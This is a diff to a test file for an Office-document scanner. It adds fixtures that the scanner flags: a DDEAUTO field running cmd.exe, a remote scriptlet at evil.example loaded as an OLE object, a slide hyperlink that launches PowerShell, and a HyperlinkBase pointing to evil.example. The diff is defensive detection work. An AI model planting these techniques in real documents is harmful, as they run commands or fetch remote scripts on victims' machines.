@@ -137,7 +137,7 @@ describe('what a document points at', () => {
     const dde = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;"/></w:p>';
     const content = await look(office('docx', 'x', [{ name: 'word/header1.xml', content: field + dde }]), 'a.docx');
     expect(urls(content)).toContain('https://evil.example/f');
-    expect(content.traits).toEqual(['macro-runs-programs']);
+    expect(content.traits).toEqual(['command-in-field']);
   });
 });
 
@@ -155,4 +155,24 @@ test('a file packed into a document is listed by its own name', async () => {
     'a.docx',
   );
   expect(content.entries.map((entry) => entry.name)).toEqual(['oleObject1.bin/run.exe']);
+});
+
+test('a script component that a document points at', async () => {
+  const points = relationships([{ type: 'oleObject', target: 'script:https://evil.example/window.sct' }]);
+  expect((await look(office('docx', 'x', [points]), 'a.docx')).traits).toEqual(['script-component', 'external-object']);
+});
+
+test('a slide that runs a program when the mouse is over it', async () => {
+  const target = 'powershell.exe%20-NoP%20-Command%20calc';
+  const traits = async (to: string) =>
+    (await look(office('pptx', 'x', [relationships([{ type: 'hyperlink', target: to }])]), 'a.pptx')).traits;
+  expect(await traits(target)).toEqual(['command-in-field']);
+  expect(await traits('https://a.example/how-to-use-powershell.exe')).toEqual([]);
+  expect(await traits('file:///C:/Users/ada/figures.xlsx')).toEqual([]);
+});
+
+test('the address that stands before all relative links', async () => {
+  const properties = '<Properties><HyperlinkBase>https://evil.example/base/</HyperlinkBase></Properties>';
+  const content = await look(office('docx', 'x', [{ name: 'docProps/app.xml', content: properties }]), 'a.docx');
+  expect(urls(content)).toEqual(['https://evil.example/base/']);
 });
